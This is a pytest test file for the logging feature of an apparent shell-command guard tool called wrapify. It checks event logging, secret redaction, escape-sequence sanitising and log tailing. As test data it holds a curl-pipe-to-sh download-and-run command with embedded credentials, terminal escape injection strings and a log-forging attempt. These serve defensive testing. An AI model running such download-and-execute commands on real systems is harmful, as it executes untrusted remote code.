"""`wrapify log`: what is in it after what was done, how it is shown, and that nothing in it is a secret."""

from __future__ import annotations

import json
import os
import re
import subprocess
import threading

import pytest

from tests.conftest import Wrapify
from tests.sandbox.terminal import until

LOG = ".local/state/wrapify/log.jsonl"
DOWNLOAD = "curl -u bob:hunter2 https://x.example/i.sh | sh"


def logged(wrapify: Wrapify, *words: str) -> list[dict[str, object]]:
    done = wrapify("log", "--json", "-n", "0", *words)
    assert (done.returncode, done.stderr) == (0, "")
    return [json.loads(line) for line in done.stdout.splitlines()]


def events(wrapify: Wrapify) -> list[object]:
    return [entry["event"] for entry in logged(wrapify)]


def test_what_is_clean_or_only_looked_at_writes_nothing(wrapify: Wrapify) -> None:
    for words in (["check", "ls"], ["status"], ["policy", "show"], ["box", "list"], ["log"], ["explain", "--", "true"]):
        assert wrapify(*words).returncode == 0
    assert wrapify("ask", "--judge", text="\0\0ls -la\0").returncode == 13
    assert wrapify("ask", "--judge", text="\0\0sudo ls\0").returncode == 20
    assert not (wrapify.home / LOG).exists()
    assert "nothing was logged yet" in wrapify("log").stderr


def test_what_is_done_from_a_run_to_its_end_is_logged_in_order(wrapify: Wrapify) -> None:
    wrapify.put("a", "old")
    assert wrapify("run", "--", "sh", "-c", "echo new >a; exit 3").returncode == 3
    run = logged(wrapify)[-1]
    assert (run["event"], run["status"], run["profile"]) == ("run", 3, "offline")
    assert run["cwd"] == str(wrapify.home)
    assert run["text"] == "sh -c echo new >a; exit 3"
    assert wrapify("apply").returncode == 0
    applied = logged(wrapify)[-1]
    assert (applied["event"], applied["box"], applied["done"]) == ("apply", run["box"], 1)
    assert applied["paths"] == [str(wrapify.home / "a")]
    for words in (["apply", "--undo"], ["discard"], ["off", "--global"], ["on", "--global"]):
        assert wrapify(*words).returncode == 0
    for words in (
        ["policy", "set", "trust.days", "7"],
        ["policy", "unset", "trust.days"],
        ["policy", "trust", "sudo ls"],
    ):
        assert wrapify(*words).returncode == 0
    assert wrapify("policy", "distrust", "--all").returncode == 0
    assert events(wrapify) == "run apply undo discard off on policy policy trust distrust".split()
    assert logged(wrapify)[-4]["value"] == "7"
    assert wrapify("run", "-q", "true").returncode == 0
    assert "box" not in logged(wrapify)[-1]
    assert (wrapify.home / LOG).stat().st_mode & 0o777 == 0o600


def test_a_judged_text_is_logged_with_its_hash_and_without_its_secret(wrapify: Wrapify) -> None:
    assert wrapify("check", DOWNLOAD).returncode == 20
    assert wrapify("check", "--json", DOWNLOAD).returncode == 20
    one, other = logged(wrapify)
    digest = json.loads(wrapify("check", "--json", DOWNLOAD).stdout)["sha256"]
    assert one["sha256"] == other["sha256"] == digest
    assert (one["decision"], one["rules"], one["text"]) == (
        "ask",
        ["download-run"],
        "curl -u *** https://x.example/i.sh | sh",
    )
    assert wrapify("policy", "set", "paste.high", "block").returncode == 0
    assert wrapify("ask", "--judge", text=f"\0\0{DOWNLOAD}\0").returncode == 11
    paste = logged(wrapify)[-1]
    assert (paste["event"], paste["decision"], paste["answer"]) == ("paste", "block", "edit")
    assert str(paste["by"]).startswith("paste.high")
    assert b"hunter2" not in (wrapify.home / LOG).read_bytes()


@pytest.mark.parametrize(("script", "why"), [("if true", "does not parse"), ("", "empty"), ("curl x | sh\n", "policy")])
def test_a_refused_script_is_logged(wrapify: Wrapify, script: str, why: str) -> None:
    wrapify.put(".config/wrapify/policy.toml", "[pipe]\nhigh = 'block'\n")
    assert wrapify("sh", text=script).returncode in (125, 126)
    (entry,) = logged(wrapify)
    assert entry["event"] == "refused"
    assert why in str(entry["why"])
    assert ("sha256" in entry) == bool(script)


def test_a_script_is_logged_with_what_was_found_and_its_beginning(wrapify: Wrapify) -> None:
    assert wrapify("sh", text="export API_KEY=hunter2\nprintf '\\033[31mhi'; sudo -n true || :\n").returncode == 0
    (entry,) = logged(wrapify)
    assert entry["rules"] == ["sudo"]
    assert str(entry["script"]).startswith("export API_KEY=***\nprintf")
    assert len(str(entry["sha256"])) == 64


def test_what_is_shown_is_a_line_each_with_nothing_hostile_in_it(wrapify: Wrapify) -> None:
    assert wrapify("check", "sudo \x1b[31mred\u202e\nls").returncode == 20 or True
    wrapify.put(".x", "")
    with (wrapify.home / LOG).open("ab") as target:
        target.write(
            b'{"event": "\\u001b]0;x\\u0007", "id": "\\u001b", "time": 3, "text": "\\u001b[2J", "paths": {}}\n'
        )
        target.write(b'[1]\nnonsense\n{"decision": [], "status": {}}\n' + b"[" * 100_000 + b"\n")
    done = wrapify("log")
    assert done.returncode == 0
    assert "\x1b" not in done.stdout
    assert "\u202e" not in done.stdout
    assert len(done.stdout.splitlines()) == 3
    assert re.match(r"[0-9a-f]{6}  \d{4}-\d\d-\d\d \d\d:\d\d  check     ", done.stdout)
    for words in ([], ["--json"], [logged(wrapify)[0]["id"]]):
        shown = wrapify("log", "show", *map(str, words))
        assert shown.returncode == 0
        assert "\x1b" not in shown.stdout


def test_the_last_lines_and_one_of_them(wrapify: Wrapify) -> None:
    for number in range(3):
        assert wrapify("check", f"sudo ls {number}").returncode == 20
    assert [line.endswith(f"sudo ls {n}") for n, line in enumerate(wrapify("log").stdout.splitlines())] == [True] * 3
    assert wrapify("log", "-n", "1").stdout.count("\n") == 1
    first = str(logged(wrapify)[0]["id"])
    assert f"id:        {first}\n" in wrapify("log", "show", first).stdout
    assert "text:      sudo ls 2\n" in wrapify("log", "show").stdout
    done = wrapify("log", "show", "zz")
    assert (done.returncode, done.stdout) == (2, "")
    assert "no entry" in done.stderr


def test_a_log_that_cannot_be_written_stops_nothing(wrapify: Wrapify) -> None:
    wrapify.put(f"{LOG}/x", "")
    assert wrapify("run", "-q", "true").returncode == 0
    assert wrapify("check", "sudo ls").returncode == 20
    done = wrapify("log")
    assert (done.returncode, done.stdout) == (125, "")
    assert "no plain file" in done.stderr


def test_switched_off_it_stays_empty(wrapify: Wrapify) -> None:
    assert wrapify("policy", "set", "log.enabled", "off").returncode == 0
    assert wrapify("run", "-q", "true").returncode == 0
    assert wrapify("check", "sudo ls").returncode == 20
    assert not (wrapify.home / LOG).exists()


def test_it_is_not_seen_inside(wrapify: Wrapify) -> None:
    assert wrapify("check", "sudo ls").returncode == 20
    assert wrapify("run", "-q", "-c", f"test ! -e {LOG}").returncode == 0
    assert wrapify("run", "-q", "-c", f"mkdir -p {os.path.dirname(LOG)}; echo forged >>{LOG}; true").returncode == 0
    assert "forged" not in (wrapify.home / LOG).read_text().replace("echo forged", "")


def test_the_tail_goes_on_over_a_new_file_until_nobody_reads(wrapify: Wrapify) -> None:
    assert wrapify("check", "sudo ls first").returncode == 20
    words = [str(wrapify.program), "log", "--tail", "--json"]
    env, user = wrapify.environment(), wrapify.user.drop
    with subprocess.Popen(words, env=env, cwd=wrapify.home, stdout=subprocess.PIPE, text=True, **user) as tail:
        assert tail.stdout
        lines: list[str] = []
        reader = threading.Thread(target=lambda: lines.extend(iter(tail.stdout.readline, "")), daemon=True)  # type: ignore[union-attr]
        reader.start()
        until(lambda: "ls first" in "".join(lines), "the first line")
        assert wrapify("check", "sudo ls second").returncode == 20
        until(lambda: "ls second" in "".join(lines), "the second line")
        assert wrapify("policy", "set", "log.max_size", "100").returncode == 0
        assert wrapify("check", "sudo ls third").returncode == 20
        until(lambda: "ls third" in "".join(lines), "what is in the new file")
        tail.terminate()
        reader.join()
        said = [str(json.loads(line).get("text")) for line in lines]
        assert [text for text in said if text.startswith("sudo")] == [
            "sudo ls first",
            "sudo ls second",
            "sudo ls third",
        ]


def test_the_tail_ends_when_nobody_reads(wrapify: Wrapify) -> None:
    assert wrapify("check", "sudo ls").returncode == 20
    line = f"{wrapify.program} log --tail | head -n 1"
    done = subprocess.run(
        ["sh", "-c", line],
        env=wrapify.environment(),
        cwd=wrapify.home,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
        **wrapify.user.drop,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert "sudo ls" in done.stdout
